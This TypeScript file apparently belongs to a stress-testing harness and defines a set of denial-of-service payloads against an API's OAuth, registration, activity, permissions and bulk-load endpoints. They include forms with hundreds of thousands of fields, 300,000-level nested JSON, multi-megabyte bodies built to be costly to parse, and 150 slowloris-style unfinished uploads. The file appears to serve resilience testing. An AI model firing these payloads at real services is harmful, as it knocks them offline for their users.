import { setMaxListeners } from "node:events";
import { type Attack, repeat, type Siege, type Tally } from "./attack.js";

const FORM = { "Content-Type": "application/x-www-form-urlencoded" };
const JSON_TYPE = { "Content-Type": "application/json" };
const MB = 1_000_000;

const post =
  (path: string | ((siege: Siege) => string), body: string, headers: Record<string, string>, atATime = 4) =>
  (siege: Siege, tally: Tally) =>
    repeat(siege.signal, atATime, tally, async () => {
      const { status } = await siege.client.send(typeof path === "string" ? path : path(siege), {
        method: "POST",
        body,
        headers,
        token: siege.attacker.token,
      });
      return status;
    });

/** Returns an attack that sends POST requests without an account. */
const postAnonymously =
  (path: string, body: string, headers: Record<string, string>, atATime = 4) =>
  async ({ client, signal }: Siege, tally: Tally) =>
    repeat(signal, atATime, tally, async () => {
      return (await client.send(path, { method: "POST", body, headers })).status;
    });

const activityOf = ({ attacker }: Siege, json: Record<string, unknown>, name = "A match") => ({
  name,
  json,
  json_schema: attacker.schemas.activity_soccer,
  owner: attacker.id,
});

/** Bodies that are cheap to send and expensive to read. */
export const bodies: readonly Attack[] = [
  {
    name: "token form of 40 KB in 20,000 fields",
    as: "anyone",
    run: postAnonymously("/oauth2/token/", "a&".repeat(20_000), FORM),
  },
  {
    name: "token form of 900 KB in 450,000 fields",
    as: "anyone",
    run: postAnonymously("/oauth2/token/", "a&".repeat(450_000), FORM),
  },
  {
    name: "authorization form of 100 KB in 50,000 fields",
    as: "anyone",
    run: postAnonymously("/oauth2/authorize/", "a&".repeat(50_000), FORM),
  },
  {
    name: "registration of 4 MB of digits that end in a letter",
    as: "anyone",
    run: postAnonymously(
      "/api/v1/managers/",
      JSON.stringify({ username: `${"1".repeat(209)}A`.repeat((4 * MB) / 210) }),
      JSON_TYPE,
    ),
  },
  {
    name: "registration with a million small arrays and a surrogate pair",
    as: "anyone",
    run: postAnonymously(
      "/api/v1/managers/",
      `{"username":"\\ud83d\\ude00","x":[${"[],".repeat(1_000_000)}[]]}`,
      JSON_TYPE,
    ),
  },
  {
    name: "JSON with 300,000 nested levels",
    as: "anyone",
    run: postAnonymously("/api/v1/managers/", "[".repeat(300_000) + "]".repeat(300_000), JSON_TYPE),
  },
  {
    name: "activity of 11 MB with an escape in each of a million strings",
    as: "user",
    run: async (siege, tally) => {
      const body = JSON.stringify(activityOf(siege, { sport: "soccer", x: "?" })).replace(
        '"?"',
        `[${'"\\ud83d\\ude00",'.repeat(700_000)}"a"]`,
      );
      await post("/api/v1/activities/", body, JSON_TYPE)(siege, tally);
    },
  },
  {
    name: "activity with a million keys, then renamed repeatedly",
    as: "user",
    run: async (siege, tally) => {
      const { client, attacker, signal } = siege;
      const keys = Array.from({ length: 600_000 }, (_, i) => [`k${i.toString(36)}`, 1]);
      const created = await client.send("/api/v1/activities/", {
        token: attacker.token,
        json: activityOf(siege, { sport: "soccer", ...Object.fromEntries(keys) }),
      });
      tally.add(created.status);
      const id = created.status === 201 ? JSON.parse(created.body.toString()).id : attacker.activity;
      await repeat(signal, 4, tally, async (round) => {
        const sent = { method: "PATCH", token: attacker.token, json: { name: `z${round}` } };
        return (await client.send(`/api/v1/activities/${id}/`, sent)).status;
      });
    },
  },
  {
    name: "bulk load of 44 MB of base64 that is not a recording",
    as: "user",
    run: (siege, tally) =>
      post(
        ({ attacker }) => `/api/v1/devices/${attacker.device}/bulk-load/`,
        JSON.stringify({ asi_b64: "QUJD".repeat((44 * MB) / 4) }),
        JSON_TYPE,
        2,
      )(siege, tally),
  },
  {
    name: "bulk load of 44 MB of digits that end in a letter",
    as: "user",
    run: (siege, tally) =>
      post(
        ({ attacker }) => `/api/v1/devices/${attacker.device}/bulk-load/`,
        JSON.stringify({ asi_b64: `${"1".repeat(209)}A`.repeat((44 * MB) / 210) }),
        JSON_TYPE,
        2,
      )(siege, tally),
  },
  {
    name: "permissions as an array of 300,000 empty objects",
    as: "user",
    run: (siege, tally) =>
      post(
        ({ attacker }) => `/api/v1/athletes/${attacker.athlete}/managers/${attacker.id}/permissions/`,
        `[${"{},".repeat(300_000)}{}]`,
        JSON_TYPE,
      )(siege, tally),
  },
  {
    name: "150 unfinished bodies of 10.9 MB",
    as: "user",
    run: async ({ client, attacker, signal }, tally) => {
      setMaxListeners(200, signal);
      const part = Buffer.alloc(64 * 1024, "a");
      const total = 10.9 * MB;
      const one = () =>
        new Promise<void>((resolve) => {
          const socket = client.connect();
          const end = (outcome: string) => {
            tally.add(outcome);
            socket.destroy();
            resolve();
          };
          socket.write(
            `POST /api/v1/activities/ HTTP/1.1\r\nHost: siege\r\nAuthorization: Bearer ${attacker.token}\r\n` +
              `Content-Type: application/json\r\nContent-Length: ${total + 1}\r\n\r\n{"name":"`,
          );
          let sent = 9;
          const more = () => {
            while (sent + part.length < total) {
              sent += part.length;
              if (!socket.write(part)) return;
            }
          };
          socket.on("drain", more);
          socket.once("data", (data) => end(String(data).slice(9, 12)));
          socket.once("close", () => end("cut"));
          signal.addEventListener("abort", () => end("held"), { once: true });
          more();
        });
      await Promise.all(Array.from({ length: 150 }, one));
    },
  },
];
